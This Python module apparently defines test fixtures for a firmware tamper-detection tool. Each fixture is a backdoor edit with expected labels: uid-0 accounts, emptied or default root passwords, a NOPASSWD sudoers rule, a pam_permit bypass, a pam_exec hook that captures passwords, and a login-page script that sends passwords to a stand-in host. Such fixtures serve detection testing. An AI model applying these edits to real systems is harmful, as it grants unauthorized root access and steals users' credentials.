"""Accounts, passwords and what may become root."""

from collections.abc import Iterator

from tamper.edits import add, append, both, content, substitute
from tamper.genuine.debian import Debian
from tamper.genuine.receiver import Receiver
from tamper.genuine.routers import Demo, Onu, OpenWrt
from tamper.kind import Kind

STRONG = "$6$tamper02$j5MPDFapnaTNM1NMknIbatu5H2A1ggwv1rL6QBZLamw6z4IosBaxB7A8dzD3ZnPCz8i/wp1zr/IAtOplUDJaj/"
"""crypt(3) of a random password that stands nowhere."""
ADMIN = "$1$tamper01$WjKXMKDnuHbOOP.fCEf/z0"
"""crypt(3) of ``admin``."""
OWNERS_DOING = "counted as an owner's doing since the policies let etc/shadow change, which every device's owner does; before, TAMPERED was expected"
_LINE = "support:{}:19700:0:99999:7:::\n"


def kinds() -> Iterator[Kind]:
    """Yield the kinds of this subject."""
    yield Kind(
        "account-uid-0",
        OpenWrt.name,
        "an account with uid 0 and a strong password added",
        both(
            append("etc/passwd", "support:x:0:0:support:/root:/bin/ash\n"), append("etc/shadow", _LINE.format(STRONG))
        ),
        ("privileged-account",),
        ("remote-access",),
    )
    yield Kind(
        "account-uid-0-no-password",
        Demo.name,
        "an account with uid 0 and no password added",
        append("etc/passwd", "support::0:0:support:/root:/bin/sh\n"),
        ("privileged-account",),
        ("default-credential", "remote-access"),
    )
    yield Kind(
        "account-made-root",
        Debian.name,
        "a service's account given uid 0",
        substitute("etc/passwd", "daemon:*:1:1:", "daemon:*:0:0:"),
        ("privileged-account",),
    )
    yield Kind(
        "account-unlocked",
        Receiver.name,
        "the locked root account given a strong password",
        substitute("etc/shadow", "root:*:", f"root:{STRONG}:"),
        ("privileged-account",),
        owned=True,
        remark=OWNERS_DOING,
    )
    yield Kind(
        "group-of-administrators",
        Debian.name,
        "an ordinary account put into the group that may become root",
        substitute("etc/group", "sudo:*:27:", "sudo:*:27:backup"),
        ("privileged-account",),
        ("privilege-opened",),
    )
    yield Kind(
        "password-default",
        Debian.name,
        "root given the password that everybody tries first",
        substitute("etc/shadow", "root:*:", f"root:{ADMIN}:"),
        ("default-credential",),
        ("privileged-account",),
        owned=True,
        remark=OWNERS_DOING,
    )
    yield Kind(
        "password-empty",
        Receiver.name,
        "root's password emptied",
        substitute("etc/shadow", "root:*:", "root::"),
        ("default-credential",),
        ("privileged-account",),
        owned=True,
        remark=OWNERS_DOING,
    )
    yield Kind(
        "snmp-writable",
        Debian.name,
        "SNMP made writable for everybody with the default community",
        both(
            append("etc/snmp/snmpd.conf", "rwcommunity public default\n"),
            substitute("etc/snmp/snmpd.conf", "127.0.0.1,[::1]", "udp:161"),
        ),
        ("default-credential",),
        ("remote-access",),
    )
    yield Kind(
        "sudo-without-password",
        Debian.name,
        "every command allowed to one account without a password",
        add("etc/sudoers.d/90-support", "backup ALL=(ALL:ALL) NOPASSWD: ALL\n", 0o440),
        ("privilege-opened", "privileged-account"),
        ("privileged-account", "privilege-opened"),
    )
    yield Kind(
        "pam-permits",
        Debian.name,
        "a module put first that lets everybody in",
        content("etc/pam.d/common-auth", lambda data: b"auth\tsufficient\tpam_permit.so\n" + data),
        ("privileged-account", "default-credential"),
        ("default-credential", "privileged-account", "remote-access", "verification-disabled"),
    )
    yield Kind(
        "pam-tells",
        Debian.name,
        "a program asked at each login that is told the password",
        both(
            substitute(
                "etc/pam.d/common-auth",
                "auth\trequired",
                "auth\toptional\tpam_exec.so quiet expose_authtok /usr/lib/.note\nauth\trequired",
            ),
            add("usr/lib/.note", "#!/bin/sh\nexit 0\n", 0o755),
        ),
        ("credential-capture",),
        ("program-altered",),
    )
    yield Kind(
        "login-page-tells",
        Onu.name,
        "the login page of the web interface sends what is entered elsewhere as well",
        content(
            "home/httpd/web/admin/login.asp",
            lambda data: data.replace(
                b"</BODY>",
                b"<script>if(0){document.forms[0].onsubmit=function(){new Image().src='http://collect.example.net/p?'"
                b"+encodeURIComponent(document.forms[0].password.value)}}</script></BODY>",
                1,
            ),
        ),
        ("credential-capture",),
        ("data-sent-elsewhere",),
    )
